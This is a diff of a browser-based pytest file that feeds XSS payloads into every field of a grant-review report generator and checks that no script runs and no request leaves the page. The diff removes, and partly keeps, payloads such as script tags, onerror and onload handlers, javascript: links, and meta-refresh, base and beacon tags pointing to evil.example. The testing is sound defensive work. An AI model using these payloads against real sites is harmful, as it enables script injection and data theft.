@@ -6,41 +6,50 @@ import json
 import re
 
 import pytest
+from hostile_words import PAYLOADS, hostile_project, nothing_ran, what_is_there
+from resealing import verified
 
-from poc_eval.i18n import Text
+from poc_eval.errors import InputError
+from poc_eval.hidden import HIDDEN
 from poc_eval.report.frame import DATA_ID
 from poc_eval.report.write import write_report
-from poc_eval.workspace.records import Project, ProjectFact
+from poc_eval.workspace.people_rows import clean_name
 
 pytestmark = pytest.mark.browser
 
-PAYLOADS = {
-    "script": "<script>window.__pwned=1</script>",
-    "handler": "<img src=x onerror=window.__pwned=1>",
-    "frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
-    "form": '<form action="https://evil.example"><input name=a><button>确认</button></form>',
-    "beacon": "![x](https://evil.example/beacon.png?u=zhang)",
-    "title": "</title><img src=x onerror=window.__pwned=1>",
-    "style": "<style>td{visibility:hidden}.pe-total::after{content:'¥9,999,999'}</style>",
-    "ids": '<a id="poc-eval-data"></a><img name="poc-eval-data">',
-    "data": '</script><!--SIG:AAAA--><script type="application/json" id="poc-eval-data">{}</script>',
-    "comment": "<!--<script>",
-    "svg": "<svg onload=window.__pwned=1><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
-    "attribute": "\" onmouseover=window.__pwned=1 autofocus onfocus=window.__pwned=1 x='",
-    "address": "[打开](javascript:window.__pwned=1) [x](data:text/html,<script>window.__pwned=1</script>)",
-    "template": "{{7*7}}${7*7}<%= 7*7 %>{% raw %}{constructor.constructor('window.__pwned=1')()}",
-    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    "base": '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
-    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
-    "signs": "\x00\x08\x1b\u202e\ufeff<b>]]>&lt;b&gt;\u2028",
-}
+
+def reports_to_make():
+    """Return the words of each report: every case alone, the variants of its class together."""
+    made = {}
+    for name, words in PAYLOADS.items():
+        case, variant, _rest = name.partition("-")
+        key = f"{case}-variants" if variant else case
+        made[key] = f"{made[key]}\n{words}" if key in made else words
+    return made
+
+
+REPORTS = reports_to_make()
 DRAWING = (
     "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='window.__pwned=1'>"
     "<script>window.__pwned=1</script><image href='https://evil.example/x.png'/></svg>"
 )
 PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+NEVER_SHOWN = (
+    *("text/html", "text/markdown", "text/latex", "text/plain", "application/javascript", "application/json"),
+    *("application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "application/pdf"),
+    *("application/vnd.jupyter.error", "image/gif", "image/jpeg", "text/vnd.mermaid", "video/mp4"),
+)
+ANSWERS = {
+    "undertaking.conflict": "none",
+    "undertaking.confidentiality": "yes",
+    "undertaking.integrity": "yes",
+    "screening.untrue": "no",
+    "criteria.need.band": "50-97",
+    "criteria.need.score": "77",
+    "recommendation": "approve",
+}
 RUBRIC = """\
-id: hostile-sheet
+id: hostile-NUMBER
 version: "1.0"
 stage: selection
 title: {zh: WORDS, en: WORDS}
@@ -58,61 +67,74 @@ recommendation: [{id: approve, title: {zh: WORDS, en: WORDS}}, {id: reject, titl
 """
 
 
-def hostile_notebook(case, payload, code_cell):
-    """Return a notebook in which everything that a person can fill holds ``payload``."""
-    words = Text(payload, payload)
-    fact = ProjectFact(words, words, payload)
-    project = Project("hostile", words, words, words, "project", words, words, (fact,), payload)
-    case.workspace.store.add_project(project)
-    file = case.folder / "hostile.yaml"
+def hostile_report(home, payload, code_cell):
+    """Write the report on a review in which everything that a person can fill holds ``payload``."""
+    number = len(home.workspace.projects())
+    home.project = hostile_project(f"hostile-{number}", payload)
+    home.workspace.store.add_project(home.project)
+    file = home.folder / f"hostile-{number}.yaml"
     # What YAML itself cannot hold never gets as far as a page.
-    readable = re.sub("[\x00-\x1f\u2028\u202e\ufeff]", "", payload)
-    file.write_text(RUBRIC.replace("WORDS", json.dumps(readable, ensure_ascii=False)), encoding="utf-8")
-    case.project = project
-    case.notebook = case.new(rubric=str(file))
-    case.review = next(one for one in case.workspace.reviews() if one.project_id == "hostile")
+    words = json.dumps(HIDDEN.sub("", payload), ensure_ascii=False)
+    file.write_text(RUBRIC.replace("WORDS", words).replace("NUMBER", str(number)), encoding="utf-8")
+    home.notebook = home.new(rubric=str(file), reviewer=payload if is_name(payload) else "专家")
+    home.review = next(one for one in home.workspace.reviews() if one.project_id == home.project.id)
     long = f"{payload} 这是一条足够长的理由，说明评分的依据和考虑。"
-    case.submit(
-        {
-            "undertaking.conflict": "none",
-            "undertaking.confidentiality": "yes",
-            "undertaking.integrity": "yes",
-            "screening.untrue": "no",
-            "screening.untrue.reason": payload,
-            "criteria.need.band": "50-97",
-            "criteria.need.score": "77",
-            "criteria.need.reason": long,
-            "criteria.need.evidence": payload,
-            "recommendation": "approve",
-            "opinion": long,
-        }
-    )
+    answers = {"screening.untrue.reason": payload, "criteria.need.evidence": payload}
+    home.submit(ANSWERS | answers | {"criteria.need.reason": long, "opinion": long})
+    home.write(*cells(payload, code_cell))
+    home.edit(lambda document: poison(document, payload))
+    return write_report(home.notebook, lang="both").path
+
+
+def is_name(words):
+    try:
+        clean_name(words)
+    except InputError:
+        return False
+    return True
+
+
+def cells(payload, code_cell):
+    """Return cells of every kind that hold a payload, H13's and H15's pictures among them."""
     sized = {"image/png": {"width": "1 onerror=window.__pwned=1", "alt": payload}}
-    case.write(
+    return (
         payload + "\ud800",
         f"# {payload}\n\n- {payload}\n\n`{payload}`\n\n    {payload}",
         f"| {payload} | b |\n|--|--|\n| c | d |",
         f"![{payload}](attachment:a.png)",
         code_cell({"image/png": PIXEL}, metadata=sized),
         code_cell({"image/svg+xml": DRAWING}),
-        code_cell({"text/html": payload, "application/javascript": "window.__pwned=1"}),
+        code_cell(dict.fromkeys(NEVER_SHOWN, payload), metadata=dict.fromkeys(NEVER_SHOWN, payload)),
     )
 
-    def more(document):
-        document["metadata"]["title"] = payload
-        document["metadata"]["authors"] = [{"name": payload}]
-        document["metadata"]["widgets"] = {"state": {"description": payload}}
-        document["cells"][-4]["attachments"] = {"a.png": {"image/png": PIXEL}}
 
-    case.edit(more)
-    return case.notebook
+def poison(document, payload):
+    """Put a payload wherever a notebook keeps words of its own."""
+    document["metadata"]["title"] = payload
+    document["metadata"]["authors"] = [{"name": payload}]
+    document["metadata"]["widgets"] = {"state": {"description": payload, "description_allow_html": True}}
+    document["metadata"]["kernelspec"] = {"name": payload, "display_name": payload}
+    document["cells"][-1]["metadata"] = {"tags": [payload], "slideshow": payload, "name": payload}
+    document["cells"][-4]["attachments"] = {"a.png": {"image/png": PIXEL, "text/html": payload}}
 
 
-@pytest.mark.parametrize("name", PAYLOADS)
-def test_hostile_words_are_shown_and_nothing_runs(case, page, code_cell, tmp_path, name):
-    payload = PAYLOADS[name]
-    written = write_report(hostile_notebook(case, payload, code_cell), lang="both", output_dir=tmp_path)
-    html = written.path.read_text(encoding="utf-8")
+@pytest.fixture(scope="module")
+def home(review_case, tmp_path_factory):
+    """Return one workspace, for a hostile project, rubric and notebook of every report."""
+    return review_case(tmp_path_factory.mktemp("hostile") / "home")
+
+
+@pytest.fixture(scope="module")
+def page(browser, fresh_profile):
+    """Open one page for all reports."""
+    with fresh_profile(browser) as profile:
+        yield profile.new_page()
+
+
+@pytest.mark.parametrize("name", REPORTS)
+def test_hostile_words_are_shown_and_nothing_runs(home, page, code_cell, tmp_path, name):
+    payload = REPORTS[name]
+    html = hostile_report(home, payload, code_cell).read_text(encoding="utf-8")
     bare, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
     assert removed == 1
     for number, opened in enumerate((html, bare)):
@@ -125,38 +147,10 @@ def test_hostile_words_are_shown_and_nothing_runs(case, page, code_cell, tmp_pat
         total = page.locator(".pe-total .pe-score").first
         assert total.inner_text() == "77"
         assert total.is_visible()
-        if name != "signs":
-            assert page.evaluate("document.body.innerText").count(payload) >= 20
-
-
-def nothing_ran(page, file):
-    """Open ``file``, touch everything in it, and return what it did that a page of text does not do."""
-    done = []
-    page.on("request", lambda request: done.append(request.url))
-    page.on("dialog", lambda dialog: (done.append(dialog.message), dialog.dismiss()))
-    page.goto(file.as_uri())
-    page.evaluate(
-        "document.querySelectorAll('body *').forEach(e =>"
-        " ['mouseover', 'focus', 'click'].forEach(name => e.dispatchEvent(new Event(name, {bubbles: true}))))"
-    )
-    if page.evaluate("window.__pwned") is not None:
-        done.append("a script ran")
-    return [one for one in done if one != file.as_uri() and not one.startswith("data:image/")]
-
-
-def what_is_there(page):
-    acting = "script:not([type='application/json']), iframe, form, input, button, object, embed, base, link"
-    handlers = (
-        "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])"
-        ".filter(a => /^on|^style$/.test(a.name)).length"
-    )
-    return {
-        "data": len(page.query_selector_all(f"#{DATA_ID}, [name={DATA_ID}]")),
-        "acting": len(page.query_selector_all(acting)),
-        "style": len(page.query_selector_all("style")),
-        "meta": len(page.query_selector_all("meta")),
-        "handlers": page.evaluate(handlers),
-    }
+        if not HIDDEN.search(payload):
+            shown = " ".join(page.evaluate("document.body.innerText").split())
+            assert shown.count(" ".join(payload.split())) >= 15
+    assert verified(html.encode(), home.workspace).verified
 
 
 def test_the_policy_alone_would_stop_what_got_through(submitted, page, tmp_path):
